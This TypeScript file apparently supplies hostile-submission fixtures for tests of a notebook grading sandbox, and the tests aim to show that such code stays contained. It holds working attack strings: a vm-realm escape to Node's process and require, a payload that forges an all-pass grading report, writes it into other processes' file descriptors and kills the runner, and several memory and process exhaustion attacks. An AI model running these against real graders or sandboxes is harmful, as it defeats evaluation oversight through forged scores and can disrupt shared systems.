/**
 * Attack code that hostile-submission tests put into exercise cells. Each
 * starts from ESCAPE, the way a real attack leaves the scoring worker's vm
 * realm (any tf function leads to the host's Function, hence `process` and
 * `require`); what it then does must change nothing but its own outputs.
 */

/** Leaves the vm realm: `P` is the process, `req` its require, `fs` Node's fs. */
export const ESCAPE = `const P: any = ((tf as any).add as any).constructor("return process")();
const req: any = P.mainModule.require.bind(P.mainModule);
const fs: any = req("fs");`;

/** Each line in a try of its own: an attack goes on after one of its steps is refused. */
export const tryAll = (lines: string[]): string => lines.map((l) => `try { ${l} } catch (e) {}`).join("\n");

/**
 * Python that copies fd 3 of the process argv[1] with pidfd_getfd (allowed when
 * it may ptrace that process: same uid, and dumpable) and writes its stdin
 * there. pidfd_open and pidfd_getfd have the same numbers on every architecture.
 */
const GETFD = [
  "import ctypes, os, sys",
  "libc = ctypes.CDLL(None, use_errno=True)",
  "pidfd = libc.syscall(434, int(sys.argv[1]), 0)",
  "fd = libc.syscall(438, pidfd, 3, 0) if pidfd >= 0 else -1",
  "if fd >= 0: os.write(fd, sys.stdin.buffer.read())",
].join("\n");

/**
 * In the kernel only (JPY_PARENT_PID is the runner's pid, which jupyter_client
 * gives its kernels; the scoring worker has none): a whole report with 40
 * cells "ok", written where the old grader read it (/tmp/run-report.json), to
 * every /proc/<pid>/fd/3 that opens and, through pidfd_getfd, to every
 * process's fd 3; then the runner is killed (SIGKILL), and its parent first
 * when `kill` is "both", so that only a forged report could be read.
 */
export const forgeReport = (kill: "none" | "runner" | "both"): string => `${ESCAPE}
const runner = Number(P.env.JPY_PARENT_PID ?? 0);
if (runner > 0) {
  const cells = Array.from({ length: 40 }, (_, i) => ({ index: i, type: "code", status: "ok", source: "", stdout: "", stderr: "", html: [], other: [] }));
  const fake = JSON.stringify({ notebook: "forged", error: null, kernelStartSeconds: 1, totalSeconds: 1, cells, probes: {}, complete: true }) + ${JSON.stringify("\n")};
  const pids = fs.readdirSync("/proc").filter((d: string) => ${/^\d+$/}.test(d) && Number(d) !== P.pid);
  ${tryAll([
    `fs.writeFileSync("/tmp/run-report.json", fake);`,
    `for (const pid of pids) { try { const fd = fs.openSync("/proc/" + pid + "/fd/3", "w"); fs.writeSync(fd, fake); fs.closeSync(fd); } catch (e) {} }`,
    `for (const pid of pids) { try { req("child_process").execFileSync("/usr/bin/python3", ["-c", ${JSON.stringify(GETFD)}, pid], { input: fake, stdio: ["pipe", "ignore", "ignore"] }); } catch (e) {} }`,
  ])}
  if (${kill === "both"}) ${tryAll([`P.kill(Number(${/^\d+ \(.*\) \S (\d+)/}.exec(fs.readFileSync("/proc/" + runner + "/stat", "utf8"))[1]), "SIGKILL");`])}
  if (${kill !== "none"}) ${tryAll([`P.kill(runner, "SIGKILL");`])}
}`;

/** Python that maps and touches `gb` GB of shared memory, which no per-process limit counts. */
export const sharedMemoryHog = (gb: number): string => `import mmap\nm = mmap.mmap(-1, ${gb} << 30, flags=mmap.MAP_SHARED)\nfor i in range(0, len(m), 4096): m[i] = 1`;

/** Fills /dev/shm and /dev (tmpfs a sandbox must size, or not have) with `mb` MB each. */
export const fillDevShm = (mb: number): string => `${ESCAPE}
${tryAll([
  `const chunk = Buffer.alloc(1 << 20, 1); const fd = fs.openSync("/dev/shm/fill", "w"); for (let i = 0; i < ${mb}; i++) fs.writeSync(fd, chunk);`,
  `const chunk = Buffer.alloc(1 << 20, 1); const fd = fs.openSync("/dev/fill-dev", "w"); for (let i = 0; i < ${mb}; i++) fs.writeSync(fd, chunk);`,
])}`;

/** Starts `n` processes that each hold `mb` MB (each under a per-process limit, together over the budget), and waits for them. */
export const manyProcesses = (n: number, mb: number): string => `${ESCAPE}
${tryAll([`const hold = "const b = []; for (let i = 0; i < ${mb / 50}; i++) b.push(Buffer.alloc(50 << 20, 1)); setTimeout(() => {}, 15000);";
const kids = Array.from({ length: ${n} }, () => req("child_process").spawn(P.execPath, ["-e", hold], { stdio: "ignore" }));
req("child_process").spawnSync("sleep", ["10"]);
for (const k of kids) { try { k.kill("SIGKILL"); } catch (e) {} }`])}`;
